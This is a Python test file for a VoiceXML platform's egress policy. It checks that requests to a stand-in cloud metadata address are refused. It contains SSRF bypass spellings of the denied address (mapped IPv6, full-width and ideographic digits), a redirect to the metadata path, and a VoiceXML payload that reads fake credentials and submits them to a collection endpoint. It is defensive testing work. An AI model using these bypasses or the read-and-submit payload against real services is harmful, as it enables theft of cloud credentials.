"""vxdial.egress: one policy on every outbound connection (issue 12, item 1).

A "metadata service" listens on 127.0.0.2 (any 127/8 address is loopback on Linux) and
the policy denies 127.0.0.2/32, standing in for 169.254.169.254. Each test first shows
that the request *would* reach it without the policy (so the test can fail), then that
with the policy nothing reaches it: IP literals, IPv4-mapped IPv6, full-width and
ideographic spellings, redirects, and a VoiceXML document that reads it with ``<data>``
and hands it to ``<submit>``.
"""

from __future__ import annotations

from collections.abc import AsyncIterator
from dataclasses import dataclass, field

import aiohttp
import pytest
from aiohttp import web

from vxdial import voicexml
from vxdial.egress import EgressPolicy
from vxdial.voicexml.testing import ScriptedChannel

DENIED = "127.0.0.2"
POLICY = EgressPolicy([f"{DENIED}/32", "169.254.0.0/16"])


@dataclass
class Servers:
    secret_port: int
    app_port: int
    secret_hits: list[str] = field(default_factory=list)
    app_hits: list[str] = field(default_factory=list)

    @property
    def secret(self) -> str:
        return f"http://{DENIED}:{self.secret_port}/latest/meta-data/"

    def app(self, path: str) -> str:
        return f"http://127.0.0.1:{self.app_port}{path}"


@pytest.fixture
async def servers() -> AsyncIterator[Servers]:
    found: Servers | None = None

    async def secret(request: web.Request) -> web.Response:
        assert found is not None
        found.secret_hits.append(request.path)
        return web.Response(text="<creds>AKIA-SECRET</creds>", content_type="text/xml")

    async def app(request: web.Request) -> web.StreamResponse:
        assert found is not None
        found.app_hits.append(f"{request.method} {request.path_qs}")
        if request.path == "/redirect":
            raise web.HTTPFound(found.secret)
        if request.path == "/exfiltrate.vxml":
            return web.Response(
                text=(
                    '<?xml version="1.0"?><vxml version="2.1" xmlns="http://www.w3.org/2001/vxml">'
                    f'<var name="reply"/><var name="stolen"/><form><block>'
                    f'<data name="reply" src="{found.secret}"/>'
                    '<assign name="stolen" expr="reply.documentElement.firstChild.data"/>'
                    f'<submit next="{found.app("/collect")}" namelist="stolen"'
                    ' method="post"/></block></form></vxml>'
                ),
                content_type="application/voicexml+xml",
            )
        return web.Response(text="ok")

    runners = []
    ports = []
    for host, handler in ((DENIED, secret), ("127.0.0.1", app)):
        application = web.Application()
        application.router.add_route("*", "/{tail:.*}", handler)
        runner = web.AppRunner(application)
        await runner.setup()
        site = web.TCPSite(runner, host, 0)
        await site.start()
        runners.append(runner)
        ports.append(runner.addresses[0][1])
    found = Servers(ports[0], ports[1])
    yield found
    for runner in runners:
        await runner.cleanup()


async def status_of(session: aiohttp.ClientSession, url: str) -> int | str:
    try:
        async with session.get(url) as response:
            await response.read()
            return response.status
    except aiohttp.ClientError as exc:
        return str(exc)


def spellings(port: int) -> list[str]:
    return [
        f"http://{DENIED}:{port}/latest/meta-data/",
        f"http://[::ffff:{DENIED}]:{port}/latest/meta-data/",
        f"http://１２７．０．０．２:{port}/latest/meta-data/",  # full-width digits and stops
        f"http://127。0。0。2:{port}/latest/meta-data/",  # ideographic full stops
    ]


async def test_every_spelling_of_a_denied_address_is_refused(servers: Servers) -> None:
    reachable = []
    async with aiohttp.ClientSession() as plain:
        for url in spellings(servers.secret_port):
            if await status_of(plain, url) == 200:
                reachable.append(url)
    assert len(servers.secret_hits) == len(reachable) >= 3  # the test can fail
    servers.secret_hits.clear()
    async with aiohttp.ClientSession(connector=POLICY.connector()) as guarded:
        for url in spellings(servers.secret_port):
            outcome = await status_of(guarded, url)
            assert isinstance(outcome, str), url
            assert "is not an address vxdial may connect to" in outcome, outcome
    assert servers.secret_hits == []


async def test_a_redirect_to_a_denied_address_is_refused(servers: Servers) -> None:
    async with aiohttp.ClientSession() as plain:
        assert await status_of(plain, servers.app("/redirect")) == 200
    assert servers.secret_hits == ["/latest/meta-data/"]
    servers.secret_hits.clear()
    async with aiohttp.ClientSession(connector=POLICY.connector()) as guarded:
        outcome = await status_of(guarded, servers.app("/redirect"))
    assert isinstance(outcome, str) and "may connect to" in outcome
    assert servers.secret_hits == []


async def test_allowed_addresses_are_reached(servers: Servers) -> None:
    async with aiohttp.ClientSession(connector=POLICY.connector()) as guarded:
        assert await status_of(guarded, servers.app("/plain")) == 200
        assert await status_of(guarded, f"http://localhost:{servers.app_port}/x") == 200


async def run_exfiltration(servers: Servers, session: aiohttp.ClientSession) -> voicexml.SessionEnd:
    channel = ScriptedChannel()
    return await voicexml.run_session(
        voicexml.FetchRequest(servers.app("/exfiltrate.vxml")),
        channel=channel,
        fetcher=voicexml.HttpFetcher(session),
        session={},
    )


async def test_a_document_cannot_read_a_denied_address_and_submit_it(servers: Servers) -> None:
    async with aiohttp.ClientSession() as plain:
        await run_exfiltration(servers, plain)
    assert servers.secret_hits and any("/collect" in hit for hit in servers.app_hits)
    servers.secret_hits.clear()
    servers.app_hits.clear()
    async with aiohttp.ClientSession(connector=POLICY.connector()) as guarded:
        end = await run_exfiltration(servers, guarded)
    assert (end.reason, end.event) == ("error", "error.badfetch")
    assert "is not an address vxdial may connect to" in (end.message or "")
    assert servers.secret_hits == []
    assert not any("/collect" in hit for hit in servers.app_hits)


def test_the_defaults_deny_the_cloud_metadata_addresses() -> None:
    from vxdial.config import HttpSettings

    policy = EgressPolicy(HttpSettings().deny_networks)
    for address in (
        "169.254.169.254",
        "fd00:ec2::254",
        "100.100.100.200",
        "::ffff:169.254.169.254",
    ):
        assert not policy.allows(address), address
    for address in ("127.0.0.1", "10.0.0.5", "192.168.1.10", "::1", "100.100.100.201"):
        assert policy.allows(address), address
